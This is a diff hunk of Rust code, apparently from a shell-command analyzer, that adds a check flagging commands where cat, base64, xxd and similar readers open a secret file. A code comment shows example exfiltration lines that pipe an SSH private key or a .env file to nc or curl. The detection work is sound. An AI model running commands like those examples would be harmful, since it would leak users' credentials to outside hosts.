@@ -56,6 +56,31 @@ pub(crate) fn run(
         sh.add(Read, format!("{cmd} only prints or dry-runs (`{flag}`)"));
         return out;
     }
+    // A secret file passed on (`cat ~/.ssh/id_rsa | nc host 9000`, `base64 .env | curl …`).
+    let passes_on = matches!(prog.handler, H::Cat | H::Decode)
+        || matches!(
+            name,
+            "head"
+                | "tail"
+                | "tac"
+                | "base64"
+                | "base32"
+                | "xxd"
+                | "od"
+                | "zcat"
+                | "strings"
+                | "sort"
+        );
+    if passes_on
+        && let Some(f) = s
+            .operands
+            .iter()
+            .find(|o| super::super::args::secret_path(o))
+    {
+        let _ = special(sh, prog, name, args, &s, stdin, cmd);
+        sh.add(Read, format!("{cmd} reads a secret file"));
+        return super::super::args::file_input(f);
+    }
     match special(sh, prog, name, args, &s, stdin, cmd) {
         Some(result) => result,
         None => {
